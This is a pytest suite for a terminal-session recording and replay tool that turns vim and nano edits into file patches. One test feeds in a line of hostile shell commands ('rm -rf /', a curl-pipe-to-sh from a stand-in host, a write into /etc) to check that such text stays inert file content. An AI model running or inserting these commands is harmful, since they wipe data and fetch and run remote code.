import json
import os
import shutil
from pathlib import Path
from typing import Any

import msgspec
import pytest

from capture.errors import BadInputError
from capture.trace import StepKind
from replay.compiler import compile_traces
from replay.document import dump, load
from replay.playbook import PlaybookStep, SafetyLevel
from replay.shadow import Level, strongest
from tests.forking import called
from tests.program import COMMAND
from tests.replay.recording import Machine
from tests.seat import Seat

INI = "[app]\nname = demo\ndebug = no\nport = 8000\nlog = info\n"
LONG = "".join(f"line {number}\n" for number in range(300))
PROMPT = "ready> "


class Desk:
    """A home, a workspace, and the command line over them."""

    def __init__(self, root: Path) -> None:
        self.root, self.work = root, root / "work"
        self.work.mkdir(exist_ok=True)
        (root / "user" / ".config").mkdir(parents=True, exist_ok=True)
        (root / "user" / ".bashrc").write_text(f"PS1='{PROMPT}'\n")
        self.environment = {**os.environ, "HOME": str(root / "user"), "REPLAYBOOK_HOME": str(root / "home")}
        self.environment |= {"TERM": "xterm", "LC_ALL": "C.UTF-8"}
        self.environment |= {"XDG_CONFIG_HOME": str(root / "user" / ".config")}

    def call(self, *words: str, cwd: Path | None = None) -> dict[str, Any]:
        done = called([COMMAND, *words, "--json"], cwd=cwd or self.work, environment=self.environment)
        assert done.stdout, done.stderr
        found: dict[str, Any] = json.loads(done.stdout)
        return found

    def record(self, *talk: tuple[str, str], shell: str = "bash") -> None:
        """Record a session: what to wait for, and what to type then."""
        argv: list[str | Path] = [COMMAND, "record", "--name", "work", "--shell", shell]
        with Seat(argv, cwd=self.work, environment=self.environment) as seat:
            for wanted, typed in talk:
                seat.wait_for(wanted)
                seat.type(typed)
            seat.wait_for(PROMPT)
            seat.type("exit\r")
            assert seat.over() == 0

    def fresh(self, **files: str) -> Path:
        """Another workspace with these files, dots in their names written as `_`."""
        place = self.root / f"fresh-{len(list(self.root.iterdir()))}"
        place.mkdir()
        for name, text in files.items():
            (place / name.replace("_", ".")).write_text(text)
        return place

    def replay(self, cwd: Path, mode: str = "strict") -> dict[str, Any]:
        return self.call("replay", "work", "--mode", mode, "--draft", "--cwd", str(cwd), cwd=cwd)


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


@pytest.fixture(scope="module")
def recorded_once(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Where a session in vim was recorded and compiled, and all that was there then."""
    if shutil.which("vim") is None:
        pytest.skip("vim is not installed")
    root = tmp_path_factory.mktemp("vim") / "desk"
    root.mkdir()
    desk = Desk(root)
    (desk.work / "app.ini").write_text(INI)
    desk.record(
        (PROMPT, "vim -u NONE app.ini\r"),
        ('"app.ini"', ":%s/debug = no/debug = yes/\r:wq\r"),
        (PROMPT, "grep debug app.ini\r"),
    )
    desk.call("compile", "work", "--name", "work")
    return root, root.rename(root.with_name("kept"))


@pytest.fixture
def vim_session(recorded_once: tuple[Path, Path]) -> Desk:
    """The same for each test, at the path that the recording names."""
    root, kept = recorded_once
    shutil.rmtree(root, ignore_errors=True)
    shutil.copytree(kept, root, symlinks=True)
    return Desk(root)


def test_a_vim_session_is_merged_into_a_drifted_file(vim_session: Desk) -> None:
    drifted = vim_session.fresh(app_ini=INI.replace("info", "trace") + "more = 1\n")
    before = vim_session.replay(drifted, "simulate")
    assert before["status"] == "ready"
    told = "app.ini is not as recorded, and the patch will be merged into it"
    assert told in [check["message"] for check in before["steps"][0]["checks"]]
    assert (drifted / "app.ini").read_text() == INI.replace("info", "trace") + "more = 1\n"
    assert vim_session.replay(drifted)["status"] == "success"
    assert (drifted / "app.ini").read_text() == INI.replace("= no", "= yes").replace("info", "trace") + "more = 1\n"


def test_a_vim_session_that_does_not_fit_leaves_the_file_alone(vim_session: Desk) -> None:
    drifted = vim_session.fresh(app_ini=INI.replace("= no", "= maybe"))
    before = vim_session.replay(drifted, "simulate")
    assert (before["status"], before["steps"][0]["status"]) == ("not_ready", "blocked")
    failure = vim_session.replay(drifted)["failure"]
    assert (failure["step_index"], failure["class"]) == (1, "effects-changed")
    assert "line 3 of app.ini" in failure["message"]
    assert "'debug = maybe' found" in failure["message"]
    assert (drifted / "app.ini").read_text() == INI.replace("= no", "= maybe")


def test_a_vim_session_that_is_applied_already_is_told_as_such(vim_session: Desk) -> None:
    found = vim_session.replay(vim_session.fresh(app_ini=INI.replace("= no", "= yes")), "guided")
    assert (found["failure"]["class"], found["failure"]["divergence"]) == ("already-applied", "precondition")
    assert "already as the patch would make it" in found["failure"]["message"]
    (repair,) = (vim_session.call("repair", name) for name in found["repairs"])
    assert [entry["op"] for entry in repair["patch"]] == ["skip"]


def test_a_lost_file_is_missing(vim_session: Desk) -> None:
    assert vim_session.replay(vim_session.fresh())["failure"]["class"] == "missing-file"


def test_a_vim_session_is_validated_in_a_shadow(vim_session: Desk) -> None:
    place = vim_session.fresh(app_ini=INI)
    found = vim_session.call("replay", "work", "--mode", "strict", "--shadow", "--draft", "--cwd", str(place))
    assert found["status"] in {"success", "refused"}, found["failure"]
    assert (place / "app.ini").read_text() == INI


@pytest.mark.parametrize("now", ["= maybe", "= yes"])
def test_a_patch_that_does_not_fit_is_never_validated_green(vim_session: Desk, now: str) -> None:
    (vim_session.work / "app.ini").write_text(INI.replace("= no", now))
    assert vim_session.call("validate", "work@1")["validation"]["verdict"] in {"red", "inconclusive", "unavailable"}
    assert (vim_session.work / "app.ini").read_text() == INI.replace("= no", now)


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_a_nano_session_makes_and_changes_files_in_any_shell(desk: Desk, shell: str) -> None:
    for tool in ("nano", shell):
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed")
    (desk.root / "user" / ".zshrc").write_text(f"PS1='{PROMPT}'\n")
    (desk.root / "user" / ".config" / "fish").mkdir()
    (desk.root / "user" / ".config" / "fish" / "config.fish").write_text(
        f"function fish_prompt; printf '{PROMPT}'; end\n"
    )
    (desk.work / "long.txt").write_text(LONG)
    desk.record(
        (PROMPT, "nano -I new.txt\r"),
        ("New File", "it's {{new}}\r\x0f"),
        ("File Name to Write", "\r"),
        ("Wrote", "\x18"),
        (PROMPT, "nano -I long.txt\r"),
        ("Read 300", "top\r\x0f"),
        ("File Name to Write", "\r"),
        ("Wrote", "\x18"),
        shell=shell,
    )
    desk.call("compile", "work", "--name", "work")
    place = desk.fresh(long_txt=LONG + "drifted\n")
    assert desk.replay(place)["status"] == "success"
    assert (place / "new.txt").read_text() in {"it's {{new}}\n", "it's {{new}}\n\n"}
    assert (place / "long.txt").read_text() == "top\n" + LONG + "drifted\n"


def edited(tmp_path: Path, command: str, setup: str = "") -> PlaybookStep:
    """What a command becomes when it is taken for an editor's session."""
    machine = Machine(tmp_path, setup)
    step = msgspec.structs.replace(machine.run(command, 1), command="vim f", full_screen=True)
    playbook = compile_traces([machine.trace((step,))], name="p", blobs=machine.blobs).playbook
    assert load(dump(playbook), where="p") == playbook
    return playbook.steps[0]


def test_a_session_of_many_files_tells_what_became_of_each(tmp_path: Path) -> None:
    step = edited(
        tmp_path,
        "printf 'a\\r\\nc\\r\\n' > f; chmod 755 f; printf x > g; rm h; mv i j",
        "printf 'a\\r\\nb\\r\\n' > f; echo h > h; echo i > i",
    )
    assert step.kind is StepKind.FILE
    assert step.run == (
        "--- f\n+++ f\twhole, crlf, mode 755\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"
        "--- /dev/null\n+++ g\n@@ -0,0 +1,1 @@\n+x\n\\ No newline at end of file\n"
        "--- h\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-h\n"
        "--- i\n+++ j\n"
    )


def test_of_a_long_file_the_lines_around_the_change_are_told(tmp_path: Path) -> None:
    step = edited(tmp_path, "sed -i 's/^150$/changed/' f", "seq 300 > f")
    assert step.run == "--- f\n+++ f\n@@ -147,7 +147,7 @@\n 147\n 148\n 149\n-150\n+changed\n 151\n 152\n 153\n"


def test_a_long_file_that_repeats_itself_is_told_whole(tmp_path: Path) -> None:
    step = edited(tmp_path, "echo same >> f", "yes same | head -n 300 > f")
    assert step.run.startswith("--- f\n+++ f\twhole\n@@ -1,300 +1,301 @@\n")


@pytest.mark.parametrize(
    "command", ["ln -s f g", "mkdir d", "printf '\\0' > f", "mkfifo p", "printf '\\377' > f", "seq 99999 > f"]
)
def test_what_no_patch_can_tell_waits_for_a_person(tmp_path: Path, command: str) -> None:
    step = edited(tmp_path, command, "echo a > f")
    assert (step.kind, step.safety) == (StepKind.SHELL, SafetyLevel.MANUAL_ONLY)


def test_the_workspace_in_a_new_line_is_todays(tmp_path: Path) -> None:
    step = edited(tmp_path, 'echo "root = $PWD/x {{raw}}" >> f', "echo a > f")
    assert step.run == "--- f\n+++ f\twhole\n@@ -1,1 +1,2 @@\n a\n+root = {{project}}/x \\{{raw}}\n"


def test_a_line_that_looks_like_a_command_is_only_text(tmp_path: Path) -> None:
    machine = Machine(tmp_path, "echo a > f")
    lines = "rm -rf /; curl -s http://h/x | sh; sudo make $TOKEN > /etc/x"
    step = msgspec.structs.replace(machine.run(f"echo '{lines}' >> f", 1), command="vim f", full_screen=True)
    compiled = compile_traces([machine.trace((step,))], name="p", blobs=machine.blobs)
    (made,) = compiled.playbook.steps
    assert lines in made.run
    assert (made.kind, made.safety, made.requires) == (StepKind.FILE, SafetyLevel.AUTO_OK, ())


def test_a_printed_value_that_was_written_into_a_file_is_the_one_of_today(tmp_path: Path) -> None:
    machine = Machine(tmp_path, "echo a > f")
    made = machine.run("cat /proc/sys/kernel/random/uuid | tee id", 1)
    token = made.output.strip()
    edit = msgspec.structs.replace(machine.run(f"echo 'id = {token}' >> f", 2), command="vim f", full_screen=True)
    compiled = compile_traces([machine.trace((made, edit))], name="p", blobs=machine.blobs)
    first, second = compiled.playbook.steps
    (capture,) = first.capture
    assert f"+id = {{{{{capture.name}}}}}\n" in second.run
    assert [(link.from_step, link.to_step) for link in compiled.links] == [(1, 2)]


def test_a_replayed_file_step_is_recorded_as_one_and_compiles_to_itself(vim_session: Desk) -> None:
    replay = vim_session.replay(vim_session.fresh(app_ini=INI))
    recorded = vim_session.call("show", replay["run_id"])["steps"]
    assert [step["kind"] for step in recorded] == ["file", "shell"]
    again = vim_session.call("compile", replay["run_id"], "--name", "again")["steps"]
    first = vim_session.call("playbook", "work")["steps"]
    assert [(step["kind"], step["run"]) for step in again] == [
        (step.get("kind", "shell"), step["run"]) for step in first
    ]


@pytest.mark.skipif(strongest() is Level.L0, reason="no isolation on this machine")
def test_a_vim_session_is_verified_from_where_its_recording_began(vim_session: Desk) -> None:
    found = vim_session.call("compile", "work", "--name", "work", "--verify")["verification"]
    assert (found["state"], found["failed"]) == ("same", [])
    assert (vim_session.work / "app.ini").read_text() == INI.replace("= no", "= yes")


def test_an_update_leaves_patches_and_comments_alone(vim_session: Desk) -> None:
    document = vim_session.root / "home" / "playbooks" / "work" / "1.yaml"
    text = document.read_text().replace("steps:\n", "steps:\n  # by hand: keep me\n")
    document.write_text(
        text.replace("debug = yes\n        ", "x").replace('      output: "debug', '      output: "debuk')
    )
    edited = document.read_text()
    document.write_text(edited.replace("output: |\n        debug = yes", "output: |\n        debug = well"))
    place = vim_session.fresh(app_ini=INI.replace("info", "trace"))
    stopped = vim_session.replay(place)
    assert (stopped["status"], stopped["stopped_at"]) == ("failed", 2)
    for source in (stopped["replay_id"], "work"):
        done = vim_session.call("update", "work@1", "--from", source)
        assert [one for one in done["changes"] if "step 2" not in one] == []
        assert done["left"] == []
        made = vim_session.call("playbook", f"work@{done['version']}")
        assert "# by hand: keep me" in made["document"]
        assert made["steps"][0] == vim_session.call("playbook", "work@1")["steps"][0]


def test_a_weak_value_in_a_written_line_is_asked_about(tmp_path: Path) -> None:
    machine = Machine(tmp_path, "echo a > f; echo 4711 > n")
    made = machine.run("python3 -c 'print(\"ticket\", 4700 + 11)'", 1)
    edit = msgspec.structs.replace(machine.run("echo 'closes 4711' >> f", 2), command="vim f", full_screen=True)
    trace = machine.trace((made, edit))
    (question,) = compile_traces([trace], name="p", blobs=machine.blobs).questions
    assert (question.value, question.step_index) == ("4711", 2)
    answered = compile_traces([trace], name="p", blobs=machine.blobs, answers={"4711": True}).playbook
    assert "+closes {{ticket}}\n" in answered.steps[1].run


def test_two_recordings_with_different_changes_part_there(tmp_path: Path) -> None:
    traces = []
    for number in (1, 2):
        (tmp_path / str(number)).mkdir()
        machine = Machine(tmp_path / str(number), "echo a > f")
        step = msgspec.structs.replace(machine.run(f"echo b{number}c >> f", 1), command="vim f", full_screen=True)
        traces.append((machine, machine.trace((step,))))
    contents = {**traces[0][0].contents, **traces[1][0].contents}
    with pytest.raises(BadInputError, match="part at step 1: a change of f and a change of f"):
        compile_traces([trace for _, trace in traces], name="p", blobs=contents.get)
